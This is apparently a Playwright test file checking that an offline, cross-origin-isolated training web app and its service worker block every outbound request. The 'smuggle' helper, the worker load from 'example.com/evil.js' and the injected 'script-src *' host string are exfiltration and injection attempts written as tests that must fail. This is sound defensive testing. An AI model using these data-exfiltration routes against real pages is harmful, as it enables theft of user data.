// The built page on a host that sets no headers, deep in its paths: isolated, offline after one visit, and silent.

import type { Page } from "@playwright/test";

import { expect, isIsolated, isKept, test } from "./host";
import { expectPhase, readTable, SMALL, turnKnobs } from "./page";
import { serveStatic } from "./staticHost";

test.use({ serviceWorkers: "allow" });

async function train(page: Page): Promise<void> {
  await turnKnobs(page, SMALL);
  await page.getByTestId("run").click();
  await expectPhase(page, "done");
  await expect(page.getByTestId("notice")).toHaveCount(0);
}

test("isolated without headers, trains with threads, and goes on without its host", async ({ page, context, site }) => {
  const requests: string[] = [];
  context.on("request", (request) => requests.push(request.url()));
  const violations: string[] = [];
  await context.exposeFunction("tellViolation", (text: string) => violations.push(text));
  await context.addInitScript(() => {
    Object.defineProperty(navigator, "hardwareConcurrency", { get: () => 16 });
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
      (globalThis as unknown as { tellViolation(text: string): void }).tellViolation(
        `${violatedDirective} ${blockedURI}`,
      ),
    );
  });
  await page.goto(site.url);
  await isIsolated(page);
  await expect(page.getByTestId("device-title")).toContainText("threads");
  await train(page);
  expect((await readTable(page, "accuracy")).size).toBe(4);
  await isKept(page);
  expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.includes("reloaded")))).toEqual([]);

  await site.close();
  await page.reload();
  await expectPhase(page, "done"); // it was saved
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  await page.goto(`${site.url}?lesson=gamedVerifier`);
  await expect(page.getByTestId("verdict")).toHaveAttribute("data-recorded", "true");
  await turnKnobs(page, { steps: 2, problems: 10, seeds: 1 });
  await page.getByTestId("run").click();
  await expectPhase(page, "running");
  await expect.poll(async () => Number(await page.getByTestId("progress").getAttribute("value"))).toBeGreaterThan(0);

  expect(requests.filter((url) => !url.startsWith(site.url) && !url.startsWith("blob:"))).toEqual([]);
  expect(violations).toEqual([]);
});

/** Tries everything that could carry something out. What gets through is a hit on the other host. */
const smuggle = async (target: string): Promise<string[]> => {
  const got: string[] = [];
  const note = (way: string) => () => void got.push(way);
  const refused = () => {};
  await fetch(`${target}fetch`).then(note("fetch"), refused);
  await fetch(`${target}no-cors`, { mode: "no-cors" }).then(note("no-cors"), refused);
  await fetch(`${target}post`, { method: "POST", body: "secret" }).then(note("post"), refused);
  await new Promise<void>((resolve) => {
    const socket = new WebSocket(target.replace("http", "ws"));
    socket.onerror = () => resolve();
    socket.onopen = () => resolve(note("socket")());
  }).catch(refused);
  if (typeof document !== "undefined") {
    navigator.sendBeacon(`${target}beacon`, "secret");
    for (const [name, attribute] of [
      ["img", "src"],
      ["script", "src"],
      ["iframe", "src"],
      ["link", "href"],
    ] as const) {
      const node = document.createElement(name);
      if (node instanceof HTMLLinkElement) node.rel = "stylesheet";
      await new Promise<void>((resolve) => {
        node.onerror = () => resolve();
        node.onload = () => resolve();
        setTimeout(resolve, 500); // some say nothing when they are blocked
        try {
          node.setAttribute(attribute, `${target}${name}`);
          document.body.append(node);
        } catch {
          resolve(); // Trusted Types
        }
      });
    }
  }
  return got;
};

test("nothing gets out, not from the page and not from a worker", async ({ browser, site, elsewhere }) => {
  const context = await browser.newContext({ serviceWorkers: "allow" });
  const page = await context.newPage();
  await page.goto(site.url);
  await isIsolated(page);
  await expectPhase(page, "ready");
  await isKept(page);

  expect(await page.evaluate(smuggle, `${elsewhere.origin}/`)).toEqual([]);
  const trainer = page.workers().find((worker) => worker.url().includes("trainer"))!;
  expect(await trainer.evaluate(smuggle, `${elsewhere.origin}/`)).toEqual([]);
  expect(elsewhere.asked).toEqual([]);
  // Neither can a text become code, nor a stranger's script a worker.
  expect(
    await page.evaluate(async () => {
      const tries = [
        () => void new Worker("https://example.com/evil.js"),
        () => void (document.createElement("div").innerHTML = "<b>text</b>"),
        () => void Reflect.construct(Function, ["return 1"]),
      ];
      await new Promise((resolve) => setTimeout(resolve)); // what the test itself evaluates may do more
      return tries.map((attempt) => {
        try {
          attempt();
          return "ran";
        } catch (error) {
          return (error as Error).name;
        }
      });
    }),
  ).toEqual(["TypeError", "TypeError", "EvalError"]);
  await context.close();
});

test("the service worker stops requests to elsewhere even without a policy", async ({ browser, site, elsewhere }) => {
  const context = await browser.newContext({ serviceWorkers: "allow", bypassCSP: true });
  const page = await context.newPage();
  await page.goto(site.url);
  await isIsolated(page);
  await expectPhase(page, "ready");
  const ask = (url: string) =>
    fetch(url).then(
      () => "got",
      () => "refused",
    );
  expect(await page.evaluate(ask, `${elsewhere.origin}/page`)).toBe("refused");
  const trainer = page.workers().find((worker) => worker.url().includes("trainer"))!;
  expect(await trainer.evaluate(ask, `${elsewhere.origin}/worker`)).toBe("refused");
  expect(elsewhere.asked).toEqual([]);
  await context.close();
});

test("a person may go online: to the hosts they name, until the last tab is closed", async ({
  browser,
  site,
  elsewhere,
}) => {
  const context = await browser.newContext({ serviceWorkers: "allow" });
  const page = await context.newPage();
  const ask = (tab: Page) =>
    tab.evaluate(
      (url) =>
        fetch(url).then(
          (response) => response.text(),
          () => "refused",
        ),
      `${elsewhere.origin}/file`,
    );
  const open = async (tab: Page) => {
    await tab.goto(site.url);
    await isIsolated(tab);
    await expectPhase(tab, "ready");
  };
  await open(page);
  expect(await ask(page)).toBe("refused");
  const say = (message: unknown) =>
    page.evaluate((data) => navigator.serviceWorker.controller!.postMessage(data), message);
  await say({ type: "online", hosts: ["https://*; script-src *"] });
  await page.reload();
  await expectPhase(page, "ready");
  expect(await ask(page)).toBe("refused");
  await say({ type: "online", hosts: [elsewhere.origin] });
  expect(elsewhere.asked).toEqual([]);

  await expect
    .poll(async () => {
      await page.reload(); // a policy is of a page as it was loaded
      return ask(page);
    })
    .toBe("here");
  const other = await serveStatic(null);
  expect(
    await page.evaluate(
      (url) =>
        fetch(url).then(
          () => "got",
          () => "refused",
        ),
      other.origin,
    ),
  ).toBe("refused");
  expect(other.asked).toEqual([]);
  await other.close();

  await page.close();
  const next = await context.newPage();
  await open(next);
  expect(await ask(next)).toBe("refused");
  await context.close();
});

test("every answer has the headers, and only the page is opened from here", async ({ browser, site }) => {
  const context = await browser.newContext({ serviceWorkers: "allow" }); // a file that is not there makes noise
  const page = await context.newPage();
  await page.goto(site.url);
  await isIsolated(page);
  await isKept(page);
  const headers = (path: string) =>
    page.evaluate(async (url) => {
      const { status, headers } = await fetch(url);
      const names = ["cross-origin-opener-policy", "cross-origin-embedder-policy", "cross-origin-resource-policy"];
      const more = ["x-content-type-options", "referrer-policy", "content-security-policy"];
      return { status, all: [...names, ...more].map((name) => headers.get(name)) };
    }, path);
  const expected = ["same-origin", "require-corp", "same-origin", "nosniff", "no-referrer"];
  for (const [path, status, policy] of [
    ["./", 200, "trusted-types default"],
    ["./checkpoints/chain.safetensors", 200, "trusted-types default"],
    ["./checkpoints/rotation.safetensors", 200, "trusted-types default"],
    ["./bench/index.html", 200, "worker-src 'self' blob:"],
    ["./no-such-file", 404, "trusted-types default"],
  ] as const) {
    const got = await headers(path);
    expect([path, got.status, ...got.all.slice(0, 5)]).toEqual([path, status, ...expected]);
    expect(got.all[5]).toContain(policy);
  }
  const before = site.asked.length;
  await headers("./checkpoints/rotation.safetensors"); // kept since it was asked for
  expect(site.asked).toHaveLength(before);
  expect((await page.goto(`${site.url}no/such/page`))?.status()).toBe(404);
  expect((await page.goto(`${site.url}index.html?lesson=rightOrWrong`))?.status()).toBe(200);
  await context.close();
});

test("the page that measures works through the service worker", async ({ page, site }) => {
  await page.goto(site.url);
  await isIsolated(page);
  await isKept(page);
  await page.goto(`${site.url}bench/index.html?rounds=1&seconds=0.2`);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  for (const library of ["tensorflow"]) await page.getByTestId(`contender-${library}`).uncheck();
  await page.getByRole("button", { name: "Measure" }).click();
  await expect(page.locator("main")).toHaveAttribute("data-phase", "done", { timeout: 120_000 });
  await expect(page.getByRole("row", { name: /jax-js/ }).first()).toBeVisible();
});
